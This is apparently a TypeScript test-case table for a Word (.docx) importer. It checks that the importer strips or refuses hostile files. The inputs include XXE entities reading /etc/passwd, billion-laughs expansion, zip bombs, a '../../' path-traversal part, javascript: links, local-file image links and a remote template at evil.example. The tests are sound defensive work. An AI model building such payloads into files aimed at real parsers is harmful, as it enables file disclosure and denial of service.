import { strToU8, zipSync } from 'fflate';
import { paragraph, run, wordFile, wordParts, wordXml } from '../importers/office/wordFile';
import { at, here, joined, notRun, utf16le, type FileCase, type Row } from './case';

const words = 'The tide was late on Monday, she said.';
const body = (inner: string, more: Partial<FileCase> = {}): FileCase => ({
  name: 'harbour.docx',
  bytes: () => wordFile(`${paragraph(run(words))}${inner}`),
  ends: 'load',
  has: [words],
  hasNot: ['canary', 'evil'],
  ...more,
});
const parts = (more: Parameters<typeof wordFile>[1], other: Partial<FileCase> = {}): FileCase =>
  body('', { bytes: () => wordFile(paragraph(run(words)), more), ...other });
const refused = (bytes: () => string | Uint8Array, says: RegExp, name = 'harbour.docx'): FileCase => ({
  name,
  bytes,
  ends: 'refuse',
  says,
});
const field = (address: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "${address}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('the linked words')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const related = (id: string, type: string, target: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const picture = (target: string): FileCase =>
  body('', {
    bytes: () =>
      wordFile(
        `${paragraph(run(words))}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId9"/></w:drawing></w:r></w:p>`,
        { 'word/_rels/document.xml.rels': strToU8(related('rId9', 'image', target)) },
      ),
    hasNot: ['passwd', 'share', 'dev/zero'],
  });
const bomb = (size: number) => (): Uint8Array => wordFile(paragraph(run('a'.repeat(size))));
const wordTest = (title: string): Row => at('importers/word/docxImporter.test.ts', title);
const refusedTest = (title: string): Row => at('importers/word/docxRefused.test.ts', title);
const cfb = joined(
  Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  new Uint8Array(512),
  utf16le('EncryptedPackage'),
  new Uint8Array(512),
);

/** E: Word files. Every one is read in a process of its own by the command line (cli/readApart.test.ts). */
export const word: Readonly<Record<string, Row>> = {
  'E-01': here(body('')),
  'E-02': here(
    body(`${paragraph(run('What is due'), 'H2')}${paragraph(run('bold', '<w:b/>'))}`, { has: ['What is due', 'bold'] }),
  ),
  'E-03': here(
    body(
      '<w:p><w:ins><w:r><w:t>put in </w:t></w:r></w:ins><w:del><w:r><w:delText>canary</w:delText></w:r></w:del></w:p>',
      {
        has: ['put in'],
        says: /tracked|deletion|change/i,
      },
    ),
  ),
  'E-04': here(
    parts({
      'word/comments.xml': strToU8(
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment><w:p><w:r><w:t>canary</w:t></w:r></w:p></w:comment></w:comments>',
      ),
    }),
  ),
  'E-05': here(body(paragraph(run('canary', '<w:vanish/>')), { ends: 'clean', says: /hidden/i })),
  'E-06': here(body(field('javascript:canary()'), { has: ['the linked words'], ends: 'clean' })),
  'E-07': here(
    body(`<w:p><w:hyperlink r:id="rId2">${run('the linked words')}</w:hyperlink></w:p>`, {
      has: ['the linked words'],
      ends: 'clean',
    }),
  ),
  'E-08': here(picture('file:///etc/passwd')),
  'E-09': here(picture('\\\\host\\share\\a.png')),
  'E-10': here(picture('file:///dev/zero')),
  'E-11': here(
    parts({
      'word/_rels/settings.xml.rels': strToU8(related('rId1', 'attachedTemplate', 'http://evil.example/t.dotm')),
    }),
  ),
  'E-12': wordTest('says that macros were left out'),
  'E-13': here(
    body('<w:altChunk r:id="rId7"/>', {
      bytes: () =>
        wordFile(`${paragraph(run(words))}<w:altChunk r:id="rId7"/>`, {
          'word/a.html': strToU8('<script>canary()</script>'),
        }),
    }),
  ),
  'E-14': here(
    refused(
      () =>
        zipSync(wordParts(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${wordXml(paragraph(run('&e;')))}`)),
      /entities of its own/,
    ),
  ),
  'E-15': here(
    refused(
      () =>
        zipSync(
          wordParts(
            `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${wordXml(paragraph(run('&c;')))}`,
          ),
        ),
      /entities of its own/,
    ),
  ),
  'E-16': here(refused(bomb(50_000_000), /unpacks to far more/)),
  'E-17': here({ ...refused(bomb(200_000_000), /unpacks to far more/), isLong: true }),
  'E-18': here({
    ...body('', {
      bytes: () => wordFile(Array.from({ length: 100_000 }, (_, index) => paragraph(run(`${index}`))).join('')),
      ends: 'load or refuse',
      has: [],
    }),
    isLong: true,
  }),
  'E-19': refusedTest('refuses bombs by what comes out of them, not by what they say'),
  'E-20': refusedTest('refuses thousands of parts, parts that share bytes and two parts by one name'),
  'E-21': refusedTest('refuses thousands of parts, parts that share bytes and two parts by one name'),
  'E-22': here(
    body(
      `${'<w:tbl><w:tr><w:tc>'.repeat(1000)}${paragraph(run('in the deep'))}${'</w:tc></w:tr></w:tbl>'.repeat(1000)}`,
      { has: ['in the deep'] },
    ),
  ),
  'E-23': here(parts({ '../../evil.txt': strToU8('canary') })),
  'E-24': refusedTest('refuses thousands of parts, parts that share bytes and two parts by one name'),
  'E-25': here(
    refused(() => 'This is no zip at all, it is a text.', /Word|DOCX|not/i, 'harbour.docx'),
    refused(() => '', /empty/),
    refused(() => `%PDF-1.7\n${'x'.repeat(200)}`, /PDF/),
  ),
  'E-26': here(refused(() => wordFile(paragraph(run(words))).slice(0, -40), /damaged/)),
  'E-27': at(
    'importers/bytes/zipArchive.test.ts',
    'notices one changed byte by its checksum, where the length is right',
  ),
  'E-28': here(refused(() => cfb, /password|protected|Word|older/i)),
  'E-29': wordTest('reads UTF-16 and the strict kind of the format'),
  'E-30': here({ ...body(paragraph(run('a\u0000b'))), ends: 'load or refuse' }),
  'E-31': wordTest('reads UTF-16 and the strict kind of the format'),
  'E-32': notRun('files as Google Docs, Pages, LibreOffice and WPS make them: none of them is kept with the tests'),
  'E-33': here(
    body(`<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:rPr><w:rtl/></w:rPr><w:t>שלום</w:t></w:r></w:p>`, { has: ['שלום'] }),
  ),
  'E-34': wordTest('keeps the text of tables, content controls and text boxes, each once'),
  'E-35': wordTest('reads tabs, line breaks, hyphens and symbols as characters'),
  'E-36': wordTest('reads tabs, line breaks, hyphens and symbols as characters'),
  'E-37': notRun(
    'a file that Word holds (EBUSY, Windows): the sentence is in electron/files/openFile.ts, no test takes a lock',
  ),
  'E-38': at('electron/files/openFile.test.ts', 'names what is missing, a folder, or too large, and says what to do'),
  'E-39': notRun('one file opened twice at once in the window: no test does'),
};
